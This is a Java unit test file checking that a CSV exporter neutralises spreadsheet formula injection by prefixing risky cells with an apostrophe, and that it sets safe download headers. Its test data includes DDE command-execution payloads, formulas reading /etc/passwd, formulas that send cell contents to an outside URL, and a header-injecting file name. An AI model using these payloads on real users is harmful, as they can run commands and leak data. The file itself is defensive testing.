package dev.redial.desk;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import jakarta.ws.rs.core.Response;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

class CsvExportTest {

    /** 30 and a few more cells that a spreadsheet would run, or hand to another program. */
    static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"https://example.org/?\",A1),\"//a\")",
            "=WEBSERVICE(\"https://example.org/\"&A2)",
            "=DDE(\"soffice\";\"/etc/passwd\";1)",
            "='file:///etc/passwd'#$passwd.A1",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "+49 30 1234567",
            "-1+1",
            "-2+3+cmd|' /C calc'!A0",
            "-pc7.example.org",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@A1",
            "\t=1+1",
            "\t1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            "\0",
            " =1+1",
            "   +1+1",
            "\u00a0=1+1",
            "\u3000-1+1",
            "\ufeff=1+1",
            "\u200b=1+1",
            "\u202e=1+1",
            "\u0001=1+1",
            " \t=1+1",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(A1)",
            "=1+1\",\"=2+2",
            "=\"\"\"");

    @ParameterizedTest
    @FieldSource("FORMULAS")
    void formula_becomesText(String formula) {
        assertThat(cells(CsvExport.of(List.of("a", "b"), List.of(List.of(formula, "x")))))
                .containsExactly("a", "b", "'" + formula, "x");
    }

    @Test
    void formulaInTheHead_becomesText() {
        assertThat(cells(CsvExport.of(List.of("=1+1"), List.of()))).containsExactly("'=1+1");
    }

    @ParameterizedTest
    @FieldSource("PLAIN")
    void plainCell_comesBackAsItWas(String cell) {
        assertThat(cells(CsvExport.of(List.of("a"), List.of(List.of(cell))))).containsExactly("a", cell);
    }

    static final List<String> PLAIN = List.of(
            "",
            " ",
            "pc7.example.org",
            "a=b",
            "1-1",
            "Müller, \"Anna\"",
            "two\r\nlines",
            "a;=1+1",
            "'x",
            "2026-11-22T10:00:00Z");

    @Test
    void file_isUtf8WithMarkAndLineEndsOfRfc4180() {
        byte[] csv = CsvExport.of(List.of("ä", "b"), List.of(List.of("1", "2")));
        assertThat(new String(csv, StandardCharsets.UTF_8)).isEqualTo("\uFEFF\"ä\",\"b\"\r\n\"1\",\"2\"\r\n");
    }

    @Test
    void response_isAFileThatNobodyKeeps() {
        try (Response response = CsvExport.response("runs.csv", new byte[0])) {
            assertThat(response.getHeaderString("Content-Disposition")).isEqualTo("attachment; filename=\"runs.csv\"");
            assertThat(response.getHeaderString("Cache-Control")).isEqualTo("no-store");
            assertThat(response.getMediaType()).hasToString("text/csv;charset=utf-8");
        }
    }

    @Test
    void fileName_isNeverWhatSomebodyTyped() {
        assertThatThrownBy(() -> CsvExport.response("a\"; x=\"b.csv", new byte[0]))
                .isInstanceOf(IllegalArgumentException.class);
    }

    private static List<String> cells(byte[] csv) {
        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
            return parser.stream().flatMap(CSVRecord::stream).toList();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
